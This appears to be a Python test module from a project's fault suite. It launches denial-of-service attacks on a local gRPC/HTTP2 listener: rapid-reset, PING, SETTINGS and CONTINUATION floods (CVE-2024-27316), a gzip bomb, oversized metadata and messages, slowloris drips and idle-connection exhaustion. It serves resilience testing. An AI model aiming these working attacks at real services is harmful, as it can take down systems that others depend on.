"""What an attacker does to one listener, in a process of its own.

``python -m tests.faults.abuse.attacks NAME SECONDS TARGET``, the target as JSON, prints what it did
and what became of it, as JSON.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
import sys
from contextlib import suppress
from dataclasses import dataclass
from itertools import count
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

import grpc

from hub.wire.identity.credentials import channel_credentials, server_trust
from tests.harness import http2
from tests.harness.http2 import END_HEADERS, Connection, Kind, clock_s, frame

if TYPE_CHECKING:
    import ssl
    from collections.abc import Awaitable, Callable

    Seen = dict[str, Any]

RESETS: Final = 9_000
"""A second."""
FRAMES: Final = 5_000
"""Pings, or settings, a second."""
CONNECTIONS: Final = 2_000
HELD: Final = 8
"""Connections that begin calls and send nothing."""
FAST, SLOW = 50, 10
"""Connections that are opened each 50 ms; a storm of handshakes is another attack than silence."""
BOMB: Final = 256 * 1024 * 1024
OVERSIZED: Final = 3 * 1024 * 1024
KEYS: Final = 1_000
GIVE_UP_S: Final = 90
TICK_S: Final = 0.005
PIECE: Final = 500
"""Frames that are written at once, at most."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """A listener, and whom the attacker says it is."""

    port: int
    ca: str
    cert: str = ""
    key: str = ""
    path: str
    """A method of it."""
    process: int = 0
    """An adapter's, for what only an adapter can do."""

    @property
    def tls(self) -> ssl.SSLContext:
        """As the attacker dials."""
        files = (Path(self.cert), Path(self.key)) if self.cert else None
        return http2.context(files, Path(self.ca))

    def channel(self) -> grpc.aio.Channel:
        """A gRPC channel of the attacker, which sends whatever it is asked to."""
        if self.cert:
            credentials = channel_credentials(self.cert, self.key, self.ca)
        else:
            credentials = server_trust(self.ca)
        options = (("grpc.max_send_message_length", -1), ("grpc.max_metadata_size", 2**20))
        return grpc.aio.secure_channel(f"127.0.0.1:{self.port}", credentials, options)


async def resets(target: Target, seconds: float) -> Seen:
    """Calls begun and cancelled at once."""
    block = http2.request(target.path, ("grpc-timeout", "5S"))
    streams = count(1, 2)

    def made(is_new: bool) -> bytes:  # noqa: FBT001 - what the storm says
        nonlocal streams
        streams = count(1, 2) if is_new else streams
        stream = next(streams)
        return frame(Kind.HEADERS, stream, block, END_HEADERS) + http2.reset(stream)

    return await _storm(target, seconds, RESETS, made)


async def pings(target: Target, seconds: float) -> Seen:
    """Pings that nobody needs."""
    return await _storm(target, seconds, FRAMES, lambda _: frame(Kind.PING, payload=bytes(8)))


async def settings(target: Target, seconds: float) -> Seen:
    """Settings, each to be acknowledged."""
    return await _storm(target, seconds, FRAMES, lambda _: frame(Kind.SETTINGS))


async def continuations(target: Target, seconds: float) -> Seen:
    """Headers that never end (CVE-2024-27316)."""
    field = http2.header_block([("x-k", "x" * 200)]) * 16

    def made(is_new: bool) -> bytes:  # noqa: FBT001 - what the storm says
        return frame(Kind.HEADERS if is_new else Kind.CONTINUATION, 1, field)

    return await _storm(target, seconds, 2_000, made)


async def metadata(target: Target, seconds: float) -> Seen:
    """Calls with 1,000 keys."""
    keys = tuple((f"x-key-{number}", "x" * 20) for number in range(KEYS))
    return await _calls(target, seconds, b"", metadata=keys)


async def oversized(target: Target, seconds: float) -> Seen:
    """Messages over the limit."""
    return await _calls(target, seconds, bytes(OVERSIZED))


async def bomb(target: Target, seconds: float) -> Seen:
    """256 MiB of zeros, compressed."""
    return await _calls(target, seconds, bytes(BOMB), compression=grpc.Compression.Gzip)


async def held(target: Target, seconds: float) -> Seen:
    """Calls that begin, on several connections, and whose message never comes."""
    block = http2.request(target.path, ("grpc-timeout", "100S"))
    made = [await Connection.open(target.port, target.tls) for _ in range(HELD)]
    streams = range(1, 128, 2)
    for one in made:
        await one.send(b"".join(frame(Kind.HEADERS, s, block, END_HEADERS) for s in streams))
    await asyncio.sleep(seconds)
    refused = sum(one.counts.get(Kind.RST_STREAM, 0) for one in made)
    await _close(made)
    return {"did": HELD * len(streams), "refused": refused}


async def drips(target: Target, seconds: float) -> Seen:
    """Handshakes whose bytes come one by one, and prefaces that do."""
    tcp = [await Connection.open(target.port, None, greets=False) for _ in range(100)]
    tls = [await Connection.open(target.port, target.tls, greets=False) for _ in range(100)]
    began = clock_s()
    hello = bytes([22, 3, 1, 1, 0, 1, 0, 0, 252, 3, 3])
    for at in range(int(GIVE_UP_S)):
        for one in [one for one in tcp if not one.is_closed]:
            await one.send(hello[at % len(hello) :][:1])
        for one in [one for one in tls if not one.is_closed]:
            await one.send(http2.PREFACE[at % len(http2.PREFACE) :][:1])
        await asyncio.sleep(1)
        if all(one.is_closed for one in (*tcp, *tls)):
            break
    took = clock_s() - began
    left = sum(not one.is_closed for one in (*tcp, *tls))
    await _close([*tcp, *tls])
    await asyncio.sleep(max(0, seconds - took))
    return {"did": len(tcp) + len(tls), "closed_s": took, "left": left}


async def silent_tcp(target: Target, seconds: float) -> Seen:
    """Connections that say nothing at all."""
    del seconds
    return await _idle(lambda: Connection.open(target.port, None, greets=False), FAST)


async def silent_tls(target: Target, seconds: float) -> Seen:
    """Connections that say nothing after their handshake."""
    del seconds
    tls = target.tls
    return await _idle(lambda: Connection.open(target.port, tls, greets=False), FAST)


async def silent_http2(target: Target, seconds: float) -> Seen:
    """Connections without a call."""
    del seconds
    tls = target.tls
    return await _idle(lambda: Connection.open(target.port, tls), SLOW)


async def stalled(target: Target, seconds: float) -> Seen:
    """Watches of everything, on connections that give no window and on ones that read nothing."""
    block = http2.request(target.path)
    empty = frame(Kind.DATA, 0, bytes(5))
    made = [await Connection.open(target.port, target.tls) for _ in range(2)]
    for at, one in enumerate(made):
        for stream in range(1, 8, 2):
            asked = empty[:5] + stream.to_bytes(4, "big") + empty[9:]
            body = asked[:4] + bytes([1]) + asked[5:]
            await one.send(frame(Kind.HEADERS, stream, block, END_HEADERS) + body)
        if at:
            one.stop_reading()
    await asyncio.sleep(seconds)
    heard = {str(kind): made[0].counts.get(kind, 0) for kind in (Kind.DATA, Kind.RST_STREAM)}
    left = sum(not one.is_closed for one in made)
    await _close(made)
    return {"did": 8, "heard": heard, "left": left}


async def stopped(target: Target, seconds: float) -> Seen:
    """An adapter stands still: it neither reads its session nor says that it ends it."""
    os.kill(target.process, signal.SIGSTOP)
    try:
        await asyncio.sleep(seconds)
    finally:
        os.kill(target.process, signal.SIGCONT)
    return {"did": 1}


async def _storm(target: Target, seconds: float, rate: int, made: Callable[[bool], bytes]) -> Seen:
    """*rate* of what is *made* a second, on one connection, and a new one whenever it is closed."""
    connection: Connection | None = None
    began, sent, opened, refused = clock_s(), 0, 0, 0
    while (now := clock_s() - began) < seconds:
        is_new = connection is None or connection.is_closed
        if connection is None or connection.is_closed:
            refused += connection.counts.get(Kind.RST_STREAM, 0) if connection else 0
            with suppress(OSError):
                connection = await Connection.open(target.port, target.tls)
            opened += 1
        due = min(int(now * rate) - sent, PIECE)
        if connection is not None and due > 0:
            pieces = [made(is_new and not at) for at in range(due)]
            await connection.send(b"".join(pieces))
            sent += due
        await asyncio.sleep(TICK_S)
    if connection is not None:
        refused += connection.counts.get(Kind.RST_STREAM, 0)
        await connection.close()
    return {"did": sent, "refused": refused, "connections": opened}


async def _calls(target: Target, seconds: float, content: bytes, **how: Any) -> Seen:
    """Calls with that content, one after the other; how each ended."""
    ended: dict[str, int] = {}
    began = clock_s()
    async with target.channel() as channel:
        call: Any = channel.unary_unary(target.path)
        while clock_s() - began < seconds:
            code = "OK"
            try:
                await call(content, timeout=30, **how)
            except grpc.aio.AioRpcError as error:
                code = error.code().name
            ended[code] = ended.get(code, 0) + 1
            await asyncio.sleep(TICK_S)
    return {"did": sum(ended.values()), "ended": ended}


async def _idle(opened: Callable[[], Awaitable[Connection]], pace: int) -> Seen:
    """How long the longest of 2,000 connections lasted that do nothing."""
    made: list[Connection] = []
    longest = 0.0

    async def one() -> None:
        nonlocal longest
        try:
            connection = await opened()
        except OSError:
            return
        made.append(connection)
        began = clock_s()
        with suppress(TimeoutError):
            await asyncio.wait_for(connection.closed(), GIVE_UP_S)
        longest = max(longest, clock_s() - began)

    tasks = []
    for at in range(CONNECTIONS):
        tasks.append(asyncio.create_task(one()))
        if at % pace == 0:
            await asyncio.sleep(TICK_S * 10)
    await asyncio.gather(*tasks)
    left = sum(not one.is_closed for one in made)
    await _close(made)
    return {"did": len(made), "closed_s": longest, "left": left}


async def _close(made: list[Connection]) -> None:
    for one in made:
        await one.close()


ATTACKS: Final[dict[str, Callable[[Target, float], Awaitable[Seen]]]] = {
    "resets": resets,
    "pings": pings,
    "settings": settings,
    "continuations": continuations,
    "metadata": metadata,
    "oversized": oversized,
    "bomb": bomb,
    "held": held,
    "drips": drips,
    "silent-tcp": silent_tcp,
    "silent-tls": silent_tls,
    "silent-http2": silent_http2,
    "stalled": stalled,
    "stopped": stopped,
}


def main() -> None:
    name, seconds, target = sys.argv[1:]
    found = asyncio.run(_attack(name, float(seconds), Target(**json.loads(target))))
    sys.stdout.write(json.dumps(found) + "\n")


async def _attack(name: str, seconds: float, target: Target) -> Seen:
    return await ATTACKS[name](target, seconds)


if __name__ == "__main__":
    main()
